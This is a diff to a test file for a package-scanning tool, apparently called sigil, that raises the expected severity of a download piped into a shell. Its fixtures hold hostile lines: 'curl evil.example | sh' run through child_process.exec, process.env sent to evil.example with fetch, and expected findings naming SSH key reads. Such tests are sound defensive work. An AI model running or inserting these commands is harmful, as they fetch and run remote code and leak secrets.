@@ -236,7 +236,7 @@ describe("sigil scan against packages built to dodge or break it", () => {
     const dir = make({ "package.json": manifest, "index.js": "/*\u0000*/ require('child_process').exec('curl evil.example | sh');\nfetch('https://evil.example/' + JSON.stringify(process.env));\n" });
     const report = JSON.parse(sigil("scan", dir, "--json").stdout) as ScanReport;
     const rules = report.findings.map((f) => `${f.rule}:${f.severity}`);
-    expect(rules).toEqual(expect.arrayContaining(["not-analysed:medium", "exec:info", "env:high", "network:info"]));
+    expect(rules).toEqual(expect.arrayContaining(["not-analysed:medium", "exec:high", "env:high", "network:info"]));
     expect(report.verdict).toBe("fail");
   });
 
@@ -307,8 +307,8 @@ describe("sigil scan finds code wherever Node would run it", () => {
     const undeclared = report.findings.filter((f) => f.rule === "undeclared-permission").map((f) => `${f.file}:${f.line}`);
     expect(undeclared.sort()).toEqual(["index.js:2", "index.js:2", "index.js:4", "index.js:5", "lib/io.mjs:1", "lib/io.mjs:2", "lib/shell.js:1"]);
     expect(report.findings.filter((f) => f.file === "index.js" && f.rule !== "undeclared-permission").map((f) => `${f.line} ${f.severity} ${f.message}`)).toEqual([
+      "2 high Runs what it downloads (a download piped into a shell: child_process.exec): code no reviewer has seen, which its server can change at will",
       "4 high Reads SSH keys (~/.ssh/id_rsa)",
-      '2 info Runs "curl" and "sh" (child_process.exec)',
       "5 info Opens an outbound connection (https.request) to collect.evil.example",
     ]);
     expect(report.verdict).toBe("fail");
